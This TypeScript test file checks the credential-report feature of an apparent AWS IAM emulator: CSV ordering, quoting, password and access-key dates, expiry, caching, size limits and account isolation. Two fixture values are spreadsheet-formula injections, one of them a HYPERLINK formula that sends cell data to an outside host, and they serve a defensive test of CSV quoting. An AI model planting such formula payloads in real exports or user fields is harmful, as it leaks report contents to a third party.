import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readCredentialReport, type ReportRow } from '../../../../test/credential-report-reader.ts'
import { expectOk, TestHouse, type Answer, type TestHouseOptions } from '../../../../test/harness.ts'
import { addAccount, engines, openOn, resetRoot, withDatabase } from '../../../../test/houses.ts'
import { hour, minute, second } from '../../../domain/clock.ts'
import { parseAccountId, type AccountId } from '../../../domain/ids.ts'
import { limits } from '../../../domain/limits.ts'
import { openWriter } from '../../../operator/place.ts'
import { credentialReportsIn } from '../../../store/credential-reports.ts'
import { statement } from '../../../store/statement.ts'
import type { Transaction } from '../../../store/transaction.ts'

const generate = (house: TestHouse) => house.iam(house.root, 'GenerateCredentialReport')
const get = (house: TestHouse) => house.iam(house.root, 'GetCredentialReport')
const csvOf = (answer: Answer) => Buffer.from(answer.get('Content') ?? '', 'base64').toString()

/** Asks for a report, waits for it, and takes it. */
async function report(house: TestHouse): Promise<string> {
  expect((await expectOk(generate(house))).get('State')).toBe('STARTED')
  await house.reports.settled()
  expect((await expectOk(generate(house))).get('State')).toBe('COMPLETE')
  expect(house.faults).toEqual([])
  return csvOf(await expectOk(get(house)))
}

/** What passwords and their policy write, beside the operations. */
async function write(house: TestHouse, body: (tx: Transaction) => Promise<void>): Promise<void> {
  const writer = openWriter(house.place, () => house.now)
  await writer.change((tx) => body(tx))
  await writer.close()
}

const insertPassword = statement<{ owner: string; userId: string | null; at: number; usedAt: number | null }>(
  (db, { owner, userId, at, usedAt }) =>
    db.insertInto('login_profile').values({
      owner,
      account_id: '123456789012',
      user_id: userId,
      hash: 'hash',
      stamp: 'stamp',
      reset_required: 0,
      created_at: at,
      changed_at: at,
      ends_at: null,
      used_at: usedAt,
    }),
)

const insertPolicy = statement<{ days: number | null }>((db, { days }) =>
  db.insertInto('password_policy').values({
    account_id: '123456789012',
    minimum_length: 8,
    require_symbols: 0,
    require_numbers: 0,
    require_uppercase: 0,
    require_lowercase: 0,
    users_may_change: 1,
    days_max: days,
    reuse_prevention: null,
    hard_expiry: 0,
  }),
)

const idOf = async (house: TestHouse, UserName: string) =>
  (await expectOk(house.iam(house.root, 'GetUser', { UserName }))).get('UserId') ?? ''

describe.each(engines)('on %s the report', (engine) => {
  let house: TestHouse
  let csv: string
  let rows: readonly ReportRow[]
  const of = (user: string) => Object.fromEntries(rows.find((row) => row.get('user') === user) ?? [])
  const formula = '/x,=HYPERLINK("http://e/?"&A1),/'
  const odd = '=cmd+a,b.c@d-'

  beforeAll(async () => {
    house = await openOn(engine)
    const as = (action: string, parameters: Record<string, string>) =>
      expectOk(house.iam(house.administrator, action, parameters))
    await as('CreateUser', { UserName: 'zoe' })
    await as('CreateUser', { UserName: 'Bob' })
    await as('CreateUser', { UserName: odd })
    await as('CreateUser', { UserName: 'formula', Path: formula })
    const alice = await house.user('alice')
    await house.sts(alice, 'GetCallerIdentity')
    const another = await as('CreateAccessKey', { UserName: 'alice' })
    const off = { UserName: 'alice', AccessKeyId: another.get('AccessKeyId') ?? '', Status: 'Inactive' }
    await as('UpdateAccessKey', off)
    const carol = { UserName: 'carol', AccessKeyId: (await house.user('carol')).accessKeyId }
    await as('UpdateAccessKey', { ...carol, Status: 'Inactive' })
    await as('UpdateAccessKey', { ...carol, Status: 'Active' })
    const [zoe, bob] = [await idOf(house, 'zoe'), await idOf(house, 'Bob')]
    const at = Date.parse('2026-01-31T10:20:30.999Z')
    await write(house, async (tx) => {
      await tx.run(insertPassword, { owner: zoe, userId: zoe, at, usedAt: null })
      await tx.run(insertPassword, { owner: bob, userId: bob, at, usedAt: at + hour })
      await tx.run(insertPassword, { owner: '123456789012', userId: null, at, usedAt: at })
      await tx.run(insertPolicy, { days: 90 })
    })
    csv = await report(house)
    rows = readCredentialReport(csv)
  })
  afterAll(() => house.close())

  it('has the root user first, then users in order of their names without regard to case', () => {
    expect(rows.map((row) => row.get('user'))).toEqual([
      '<root_account>',
      odd,
      'administrator',
      'alice',
      'Bob',
      'carol',
      'formula',
      'zoe',
    ])
  })

  it('parts lines by a line feed, and ends with none', () => {
    expect(csv).not.toMatch(/\r|\n$|^\ufeff/)
    expect(csv.split('\n')).toHaveLength(9)
  })

  it('quotes what holds a comma or a quote, and nothing else', () => {
    expect(csv).toContain(`\n"${odd}","arn:aws:iam::123456789012:user/${odd}",20`)
    expect(csv).toContain('\nformula,"arn:aws:iam::123456789012:user/x,=HYPERLINK(""http://e/?""&A1),/formula",20')
    expect(of('formula')['arn']).toBe(`arn:aws:iam::123456789012:user${formula}formula`)
    expect(csv.split('"')).toHaveLength(1 + 4 + 6)
  })

  it('tells of root its keys and when its password was used', () => {
    expect(of('<root_account>')).toMatchObject({
      arn: 'arn:aws:iam::123456789012:root',
      password_enabled: 'not_supported',
      password_last_used: '2026-01-31T10:20:30Z',
      password_last_changed: 'not_supported',
      password_next_rotation: 'not_supported',
      mfa_active: 'false',
      access_key_1_active: 'true',
      access_key_1_last_used_region: 'us-east-1',
      access_key_1_last_used_service: 'iam',
      access_key_2_active: 'false',
      access_key_2_last_rotated: 'N/A',
    })
  })

  it('tells of a user that there is nothing to tell of', () => {
    expect(csv.split('\n').find((line) => line.startsWith('formula,'))).toMatch(
      /Z,false,N\/A,N\/A,N\/A,false,false,N\/A,N\/A,N\/A,N\/A,false,N\/A,N\/A,N\/A,N\/A,false,N\/A,false,N\/A$/,
    )
  })

  it('tells of passwords when they were used and changed, and when they expire', () => {
    expect(of('Bob')).toMatchObject({
      password_enabled: 'true',
      password_last_used: '2026-01-31T11:20:30Z',
      password_last_changed: '2026-01-31T10:20:30Z',
      password_next_rotation: '2026-05-01T10:20:30Z',
    })
    expect(of('zoe')).toMatchObject({ password_enabled: 'true', password_last_used: 'no_information' })
    expect(of('alice')).toMatchObject({ password_enabled: 'false', password_last_used: 'N/A' })
  })

  it('has keys in order of their ids, with uses that were not written yet', async () => {
    const listed = await expectOk(house.iam(house.root, 'ListAccessKeys', { UserName: 'alice' }))
    const states = listed.all('Status').map((status) => String(status === 'Active'))
    expect([of('alice')['access_key_1_active'], of('alice')['access_key_2_active']]).toEqual(states)
    const used = states.indexOf('true') + 1
    expect(of('alice')).toMatchObject({
      [`access_key_${used}_last_used_service`]: 'sts',
      [`access_key_${3 - used}_last_used_service`]: 'N/A',
      [`access_key_${3 - used}_last_used_date`]: 'N/A',
    })
    expect(of('alice')[`access_key_${3 - used}_last_rotated`]).not.toBe('N/A')
  })

  it('does not take a key for rotated that was activated again', async () => {
    const created = (await expectOk(house.iam(house.root, 'ListAccessKeys', { UserName: 'carol' }))).get('CreateDate')
    expect(of('carol')).toMatchObject({ access_key_1_active: 'true', access_key_1_last_rotated: created })
  })

  it('comes as AWS sends it', async () => {
    expect((await expectOk(get(house))).body).toMatch(
      /^<GetCredentialReportResponse [^>]+>\n {2}<GetCredentialReportResult>\n {4}<Content>[\w+/=]+<\/Content>\n {4}<ReportFormat>text\/csv<\/ReportFormat>\n {4}<GeneratedTime>[^<]+Z<\/GeneratedTime>\n {2}<\/Get/,
    )
  })

  it('stays the same bytes whatever is changed after it, and moves nothing while it is fresh', async () => {
    await expectOk(house.iam(house.root, 'DeleteUser', { UserName: 'formula' }))
    const head = await house.house.directory.settle((view) => view.head)
    const again = await expectOk(generate(house))
    expect([again.get('State'), again.get('Description')]).toEqual(['COMPLETE', undefined])
    expect(csvOf(await expectOk(get(house)))).toBe(csv)
    expect(await house.house.directory.settle((view) => view.head)).toEqual(head)
  })
})

/** A house whose clock the test moves; it is left as it is found. */
async function withHouse(options: TestHouseOptions, use: (house: TestHouse) => Promise<void>): Promise<void> {
  const house = await TestHouse.open(options)
  try {
    await use(house)
  } finally {
    await house.close()
  }
}

describe('the report of an account', () => {
  it('is not there before it was asked for', async () => {
    await withHouse({}, async (house) => {
      const answer = await get(house)
      expect(answer).toMatchObject({ status: 410, code: 'ReportNotPresent', message: undefined })
    })
  })

  it('is begun by the first call, and is on its way for all others until it is published', async () => {
    await withHouse({}, async (house) => {
      const [started, other] = [await generate(house), await house.iam(house.administrator, 'GenerateCredentialReport')]
      expect([started.get('State'), started.get('Description')]).toEqual([
        'STARTED',
        'No report exists. Starting a new report generation task',
      ])
      expect([other.get('State'), other.get('Description')]).toEqual(['INPROGRESS', undefined])
      expect(await get(house)).toMatchObject({ status: 404, code: 'ReportInProgress', message: undefined })
      await house.reports.settled()
      expect((await get(house)).status).toBe(200)
    })
  })

  it('is fresh for a minute, is answered for four hours, and then has expired', async () => {
    await withHouse({}, async (house) => {
      const first = await report(house)
      house.now += minute - 1
      expect((await generate(house)).get('State')).toBe('COMPLETE')
      house.now += 1
      await house.user('later')
      expect(csvOf(await get(house))).toBe(first)
      house.now += 4 * hour - minute - 1
      expect(csvOf(await get(house))).toBe(first)
      house.now += 1
      expect(await get(house)).toMatchObject({ status: 410, code: 'ReportExpired', message: undefined })
      const again = await generate(house)
      expect([again.get('State'), again.get('Description')]).toEqual([
        'STARTED',
        'The current report has expired. Starting a new report generation task',
      ])
      expect(await get(house)).toMatchObject({ status: 404, code: 'ReportInProgress' })
      await house.reports.settled()
      expect(csvOf(await get(house))).toContain('\nlater,')
    })
  })

  it('is the last one while the next is built', async () => {
    await withHouse({ credentialReportCache: second }, async (house) => {
      const first = await report(house)
      house.now += second
      await house.user('later')
      expect((await generate(house)).get('State')).toBe('STARTED')
      expect(csvOf(await get(house))).toBe(first)
      await house.reports.settled()
      expect(csvOf(await get(house))).toContain('\nlater,')
    })
  })

  it('bears the time of the state that it tells of', async () => {
    await withHouse({}, async (house) => {
      house.now += hour
      await report(house)
      house.now += minute / 2
      expect((await get(house)).get('GeneratedTime')).toBe('2026-11-24T13:00:00Z')
    })
  })

  it('is begun again where its builder has died, once nothing was heard of it for half a minute', async () => {
    await withHouse({}, async (house) => {
      await write(house, (tx) => credentialReportsIn(tx).begin({ account, job: 'dead' }, house.now))
      house.now += 20 * second
      await house.house.changes.writeReport({ kind: 'piece', account, job: 'dead', i: 0, content: 'AAAA' })
      house.now += limits.credentialReportSilenceMax - 1
      expect((await generate(house)).get('State')).toBe('INPROGRESS')
      expect(await get(house)).toMatchObject({ code: 'ReportInProgress' })
      house.now += 1
      expect(await get(house)).toMatchObject({ code: 'ReportNotPresent' })
      readCredentialReport(await report(house))
      // A builder that was only slow publishes nothing in place of it.
      const published = csvOf(await get(house))
      await house.house.changes.writeReport({ kind: 'publish', account, job: 'dead', takenAt: house.now, size: 3 })
      expect(csvOf(await get(house))).toBe(published)
    })
  })

  it('leaves no pieces behind but its own and those of the two before', async () => {
    await withHouse({ credentialReportCache: second }, async (house) => {
      await house.house.changes.writeReport({ kind: 'piece', account, job: 'dead', i: 0, content: 'AAAA' })
      for (let round = 0; round < 6; round++) {
        await report(house)
        house.now += second
      }
      const pieces = withDatabase(house, (db) => db.prepare('select job from credential_report_piece').all())
      expect(pieces).toHaveLength(3)
    })
  })

  it('refuses to be longer than the limit, and tries again when that was a while ago', async () => {
    await withHouse({ credentialReportBytesMax: 900 }, async (house) => {
      await house.user('alice')
      expect((await generate(house)).get('State')).toBe('STARTED')
      await house.reports.settled()
      expect(await generate(house)).toMatchObject({
        status: 409,
        code: 'LimitExceeded',
        message: 'The credential report of this account would be longer than 33554432 bytes.',
      })
      expect(await get(house)).toMatchObject({ code: 'ReportNotPresent' })
      house.now += minute
      expect((await generate(house)).get('State')).toBe('STARTED')
    })
  })

  it('is not begun for more users than fit whatever their names', async () => {
    await withHouse({}, async (house) => {
      withDatabase(house, (db) => db.prepare('update account set users = 300000').run())
      expect(await generate(house)).toMatchObject({ status: 409, code: 'LimitExceeded' })
    })
  })

  it('can be asked for again at once where it could not be built', async () => {
    await withHouse({}, async (house) => {
      withDatabase(house, (db) => db.exec('alter table key_used rename to away'))
      expect((await generate(house)).get('State')).toBe('STARTED')
      await house.reports.settled()
      expect(String(house.faults)).toContain('no such table: key_used')
      house.faults.length = 0
      withDatabase(house, (db) => db.exec('alter table away rename to key_used'))
      readCredentialReport(await report(house))
    })
  })

  it('is given to the console piece by piece, and what is not there with a sentence', async () => {
    await withHouse({}, async (house) => {
      const password = await resetRoot(house)
      const page = house.page()
      await page.signIn({ PrincipalType: 'Root', Email: house.account.rootEmail, Password: password })
      const take = () => page.call('iam', 'GetCredentialReport')
      expect(await take()).toMatchObject({ status: 410, message: 'There is no credential report. Generate one.' })
      expect((await page.call('iam', 'GenerateCredentialReport')).body).toEqual({
        State: 'STARTED',
        Description: 'No report exists. Starting a new report generation task',
      })
      expect(await take()).toMatchObject({ status: 404, message: 'The credential report is being generated.' })
      await house.reports.settled()
      const { body } = await take()
      expect(body).toEqual({
        Content: (await get(house)).get('Content'),
        ReportFormat: 'text/csv',
        GeneratedTime: house.now / 1_000,
      })
      const [root] = readCredentialReport(Buffer.from(String(body['Content']), 'base64').toString())
      expect(root?.get('password_last_used')).toBe('2026-11-24T12:00:00Z')
      house.now += 4 * hour
      expect(await take()).toMatchObject({
        status: 410,
        code: 'ReportExpired',
        message: 'The credential report has expired. Generate a new one.',
      })
    })
  })

  it('is not begun by a server that stops, and its job is given up', async () => {
    await withHouse({}, async (house) => {
      expect((await generate(house)).get('State')).toBe('STARTED')
      await house.reports.close()
      expect(await get(house)).toMatchObject({ code: 'ReportNotPresent' })
      expect(house.faults).toEqual([])
    })
  })

  it('is recorded when it is begun, and not when it is only waited for', async () => {
    await withHouse({}, async (house) => {
      await report(house)
      const records = withDatabase(house, (db) =>
        db.prepare("select record from event where record like '%CredentialReport%'").pluck().all(),
      )
      expect(records.map((record) => JSON.parse(String(record)))).toMatchObject([
        {
          eventName: 'GenerateCredentialReport',
          requestParameters: null,
          responseElements: {
            state: 'STARTED',
            description: 'No report exists. Starting a new report generation task',
          },
        },
      ])
    })
  })

  it('tells nothing of another account', async () => {
    await withHouse({}, async (house) => {
      const { root } = await addAccount(house, '210987654321')
      await report(house)
      expect(await house.iam(root, 'GetCredentialReport')).toMatchObject({ code: 'ReportNotPresent' })
      await expectOk(house.iam(root, 'GenerateCredentialReport'))
      await house.reports.settled()
      const rows = readCredentialReport(csvOf(await expectOk(house.iam(root, 'GetCredentialReport'))))
      expect(rows.map((row) => row.get('arn'))).toEqual([
        'arn:aws:iam::210987654321:root',
        'arn:aws:iam::210987654321:user/administrator',
      ])
    })
  })

  it('is whole where it has many pieces', async () => {
    await withHouse({}, async (house) => {
      withDatabase(house, (db) => {
        const insert = db.prepare(
          'insert into iam_user (id, account_id, name, name_key, path, created_at) values (?, ?, ?, ?, ?, ?)',
        )
        db.transaction(() => {
          for (let i = 0; i < 3_000; i++) insert.run(`AIDA${i}`, account, `User${i}`, `user${i}`, '/many/', house.now)
          db.exec('update head set n = n + 1')
        })()
      })
      const csv = await report(house)
      expect(Buffer.byteLength(csv)).toBeGreaterThan(4 * limits.credentialReportPieceBytes)
      const names = readCredentialReport(csv).map((row) => row.get('user')?.toLowerCase() ?? '')
      expect(names).toHaveLength(3_002)
      expect(names).toEqual(names.toSorted())
    })
  })
})

const account = parseAccountId('123456789012') as AccountId
